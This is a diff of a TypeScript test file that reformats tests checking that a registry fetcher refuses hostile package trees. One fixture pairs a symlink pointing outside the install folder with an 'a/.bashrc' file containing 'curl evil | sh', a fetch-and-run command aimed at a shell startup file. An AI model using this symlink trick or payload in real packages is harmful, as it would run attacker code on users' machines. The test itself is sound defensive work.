@@ -20,7 +20,8 @@ afterEach(async () => {
 const FOLDER = 'registry/curated/tool-0';
 const files = registryFiles(1);
 const manifest: RawTreeItem = { name: 'manifest.json', mode: '100644', content: files[`${FOLDER}/manifest.json`]! };
-const filler = (count: number): RawTreeItem[] => Array.from({ length: count }, (_, i) => ({ name: `f${i}.js`, mode: '100644', content: `export const f = ${i};\n` }));
+const filler = (count: number): RawTreeItem[] =>
+  Array.from({ length: count }, (_, i) => ({ name: `f${i}.js`, mode: '100644', content: `export const f = ${i};\n` }));
 
 /** The registry of `registryFiles(1)` with `tool-0` replaced by `items`, served in per-entry mode. */
 async function hostile(items: RawTreeItem[], extra: Record<string, string> = {}) {
@@ -37,7 +38,12 @@ describe('per-entry mode refuses hostile trees before anything is written outsid
     await writeFile(join(outside, '.bashrc'), 'original\n');
     // The link's blob is asked for first and the file's last, so a writer that follows links in the order blobs
     // arrive would have created `a` before writing `a/.bashrc`.
-    const open = await hostile([manifest, { name: 'a', mode: '120000', content: outside }, ...filler(6), { name: 'a/.bashrc', mode: '100644', content: 'curl evil | sh\n' }]);
+    const open = await hostile([
+      manifest,
+      { name: 'a', mode: '120000', content: outside },
+      ...filler(6),
+      { name: 'a/.bashrc', mode: '100644', content: 'curl evil | sh\n' },
+    ]);
     const error = await failure((await open()).fetch('tool', 'com.example.tool-0'));
     expect(error.code).toBe('E_UNSAFE_PATH');
     expect(await readFile(join(outside, '.bashrc'), 'utf8')).toBe('original\n');
